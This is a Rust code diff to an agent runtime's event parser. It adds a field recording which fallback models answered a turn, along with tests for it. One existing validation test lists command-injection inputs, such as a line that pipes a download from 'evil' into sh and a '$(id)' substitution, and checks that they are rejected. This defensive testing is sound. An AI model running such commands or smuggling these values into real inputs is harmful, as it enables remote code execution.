@@ -15,8 +15,8 @@ pub(super) enum ReplyChunk {
     Call { name: String, arguments: String },
     /// The result of a tool, or its failure.
     Outcome { ok: bool, took_ms: u64 },
-    /// The end of the turn; an agent names the conversation.
-    Done { conversation: Option<String> },
+    /// The end of the turn; an agent names the conversation, and a turn that others than the first model answered those.
+    Done { conversation: Option<String>, answered_by: Option<String> },
     /// The turn failed.
     Failed(String),
     /// An event that is not for people, or of a newer runtime.
@@ -40,10 +40,24 @@ pub(super) fn read(event: &Sse) -> ReplyChunk {
         Some("tool_result") => {
             ReplyChunk::Outcome { ok: data["ok"] == true, took_ms: data["tookMs"].as_u64().unwrap_or_default() }
         }
-        Some("done") => ReplyChunk::Done { conversation: data["conversation_id"].as_str().and_then(typable) },
+        Some("done") => ReplyChunk::Done {
+            conversation: data["conversation_id"].as_str().and_then(typable),
+            answered_by: answered_by(&data),
+        },
         Some("error") => ReplyChunk::Failed(text("error")),
         Some(_) => ReplyChunk::Other,
     }
+}
+
+/// Returns the models that answered, each once, if one of them was not the first model.
+fn answered_by(done: &Value) -> Option<String> {
+    let mut models: Vec<&str> = Vec::new();
+    for model in done["models"].as_array()?.iter().filter_map(Value::as_str) {
+        if !models.contains(&model) {
+            models.push(model);
+        }
+    }
+    (done["fallback"] == true && !models.is_empty()).then(|| models.join(", "))
 }
 
 /// Returns the text of a response that is not a stream, and its conversation: the text of an agent or a flow, or the
@@ -76,7 +90,10 @@ mod tests {
 
     #[test]
     fn each_event_of_a_turn_is_understood() {
-        let done = |conversation: Option<&str>| ReplyChunk::Done { conversation: conversation.map(str::to_owned) };
+        let done = |conversation: Option<&str>| ReplyChunk::Done {
+            conversation: conversation.map(str::to_owned),
+            answered_by: None,
+        };
         for (name, data, expected) in [
             (None, r#"{"token": "Hel"}"#, ReplyChunk::Text("Hel".into())),
             (
@@ -108,7 +125,28 @@ mod tests {
         for bad in ["", "x; curl evil|sh", "a\nb", "a b", "$(id)", "é", &"x".repeat(129)] {
             assert_eq!(id(bad), None, "{bad}");
             let data = serde_json::json!({ "conversation_id": bad }).to_string();
-            assert_eq!(read(&event(Some("done"), &data)), ReplyChunk::Done { conversation: None }, "{bad}");
+            assert_eq!(
+                read(&event(Some("done"), &data)),
+                ReplyChunk::Done { conversation: None, answered_by: None },
+                "{bad}"
+            );
+        }
+    }
+
+    #[test]
+    fn models_are_told_when_one_was_not_the_first() {
+        for (data, expected) in [
+            (r#"{"models": ["a/b"], "fallback": true}"#, Some("a/b")),
+            (r#"{"models": ["a/b", "c/d", "a/b"], "fallback": true}"#, Some("a/b, c/d")),
+            (r#"{"models": ["a/b"]}"#, None),
+            (r#"{"models": 1, "fallback": true}"#, None),
+        ] {
+            let answered_by = expected.map(str::to_owned);
+            assert_eq!(
+                read(&event(Some("done"), data)),
+                ReplyChunk::Done { conversation: None, answered_by },
+                "{data}"
+            );
         }
     }
 
